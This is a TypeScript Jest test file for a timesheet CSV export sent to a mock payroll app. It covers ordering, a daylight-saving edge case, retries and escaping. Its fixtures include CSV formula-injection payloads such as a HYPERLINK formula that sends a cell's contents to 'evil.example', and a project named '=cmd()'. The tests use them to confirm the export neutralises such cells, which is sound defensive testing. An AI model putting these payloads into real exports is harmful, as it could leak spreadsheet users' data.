import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import {
  defineZap,
  type Fire,
  type LocalApp,
  outputOf,
} from '../../workshop/lab/index.ts';
import {
  startTrial,
  type Trial,
  type Wire,
} from '../../workshop/trial/index.ts';

const ZONE = 'America/New_York';
const RANGE = { from: '2026-03-01', to: '2026-05-31' };

type Line = Record<string, string>;

/** Payroll, which asks for hours and imports the file it is sent. */
class Payroll implements LocalApp {
  readonly name = 'Payroll';
  readonly triggers = { month_closes: { label: 'Month Closes', fields: {} } };
  readonly actions = {
    import_file: {
      label: 'Import File',
      fields: { url: 'URL' },
      perform: async ({ url }: Record<string, unknown>) => {
        const response = await fetch(String(url));
        return {
          type: response.headers.get('content-type'),
          disposition: response.headers.get('content-disposition'),
          text: await response.text(),
        };
      },
    },
  };
  close: Fire = () => undefined;

  connect(fire: Fire): void {
    this.close = fire;
  }
}

/** Some texts that a spreadsheet would run or a careless file would break on, and what the file has for them. */
const AWKWARD = {
  'Call with "Northwind", follow-up': 'Call with "Northwind", follow-up',
  'Notes:\r\n- budget\r\n- timeline': 'Notes: - budget - timeline',
  'Müller & Söhne — Größe, 打ち合わせ 🗓️':
    'Müller & Söhne — Größe, 打ち合わせ 🗓️',
  '=HYPERLINK("https://evil.example?"&A1, "click")': `'=HYPERLINK("https://evil.example?"&A1, "click")`,
  'x;=HYPERLINK("https://evil.example")': `x;'=HYPERLINK("https://evil.example")`,
} as const;

const payroll = new Payroll();
let trial: Trial;
let file: Record<string, unknown>;
let lines: Line[];
let entries: Map<string, Wire>;

const exportTimesheet = defineZap({
  name: 'Hand the hours to payroll',
  timezone: ZONE,
  trigger: { app: 'Payroll', trigger: 'month_closes' },
  steps: [
    {
      name: 'report',
      app: 'TrackingTime',
      search: 'detailed_report',
      fields: { period: 'custom', ...RANGE },
    },
    {
      name: 'imported',
      app: 'Payroll',
      action: 'import_file',
      fields: { url: '{{report.timesheet}}' },
    },
  ],
});

let ofACleverProject: Wire;
let tags: Wire[];

beforeAll(async () => {
  trial = await startTrial({
    entries: 120,
    until: '2026-06-01',
    apps: [payroll],
  });
  const { api } = trial;
  for (const description of Object.keys(AWKWARD)) {
    const start_time = '2026-04-06T13:00:00Z';
    await api('POST', '/time-entries', {
      start_time,
      duration: 60,
      description,
    });
  }
  const client = await api('POST', '/clients', { name: '+Plus Ltd' });
  const project = await api('POST', '/projects', {
    name: '=cmd()',
    client_id: client.id,
  });
  tags = (await api<Wire[]>('GET', '/tags?per_page=2')).slice(0, 2);
  // Over the hour that New York skips.
  ofACleverProject = await api('POST', '/time-entries', {
    start_time: '2026-03-08T06:30:00Z',
    end_time: '2026-03-08T07:20:00Z',
    project_id: project.id,
    billable: true,
    tag_ids: tags.map(({ id }) => id),
  });
  const query = `from=${RANGE.from}&to=${RANGE.to}&timezone=${ZONE}`;
  const all = await api<Wire[]>('GET', `/time-entries?${query}&per_page=200`);
  entries = new Map(all.map((entry) => [entry.id, entry]));

  const zap = await trial.lab.turnOn(exportTimesheet, trial.connection);
  payroll.close('month_closes', {});
  await trial.lab.settled();
  const [run] = zap.runs;
  if (run?.status !== 'success') {
    throw new Error(`The Zap did not run to its end: ${run?.reason ?? ''}`);
  }
  // What `import_file` returned, above.
  file = outputOf(run, 'imported') as typeof file;
  lines = parse(String(file.text), { columns: true });
});

afterAll(async () => {
  await trial.close();
});

describe('the timesheet of a detailed report', () => {
  it('is a CSV file named after its days', () => {
    expect(file).toMatchObject({
      type: 'text/csv',
      disposition: expect.stringContaining(
        'filename="timesheet_2026-03-01_2026-05-31.csv"',
      ),
    });
  });

  it('has a line for every entry, each once, in the order they began', () => {
    const ids = lines.map((line) => line['Entry ID']);
    expect(ids).toHaveLength(entries.size);
    expect(ids.length).toBeGreaterThan(100);
    expect(new Set(ids)).toEqual(new Set(entries.keys()));
    const begun = ids.map((id) => entries.get(id ?? '')?.start_time as string);
    expect(begun).toEqual([...begun].sort());
  });

  it('says of each entry who worked on what, for how long', () => {
    const { id } = ofACleverProject;
    const line = lines.find((each) => each['Entry ID'] === id);
    expect(line).toEqual({
      Date: '2026-03-08',
      Start: '2026-03-08 01:30',
      End: '2026-03-08 03:20',
      Duration: '0:50:00',
      Hours: '0.833333',
      Billable: 'yes',
      User: 'Ada Lovelace',
      Client: "'+Plus Ltd",
      Project: "'=cmd()",
      Task: '',
      Description: '',
      Tags: tags.map(({ name }) => name).join('; '),
      'Entry ID': id,
    });
  });

  it.each(Object.entries(AWKWARD))('has %j as %j', (text, cell) => {
    const [id] =
      [...entries].find(([, each]) => each.description === text) ?? [];
    const line = lines.find((each) => each['Entry ID'] === id);
    expect(line?.Description).toBe(cell);
  });

  it('has no cell at all that a spreadsheet would run', () => {
    const dangerous = lines
      .flatMap((line) => Object.values(line))
      .filter((cell) => /^\s*[=+\-@]/.test(cell));
    expect(dangerous).toEqual([]);
  });
});

const write = () =>
  trial.lab.call(
    'hydrators.timesheet',
    { inputData: { ...RANGE, timezone: ZONE } },
    trial.connection,
  );

describe('writing the file', () => {
  it('takes one request for 200 entries, and one for the tags', async () => {
    const asked = await trial.askedDuring(write);
    expect(asked).toHaveLength(2);
  });

  it('loses nothing if answers break off, and has nothing twice', async () => {
    await trial.control('POST', '/faults', {
      operation: 'getDetailedReport',
      body: 'reset',
      times: 2,
    });
    const { results } = await write();
    const response = await fetch(String(results));
    const again = parse<Line>(await response.text(), { columns: true });
    expect(again).toEqual(lines);
  });
});
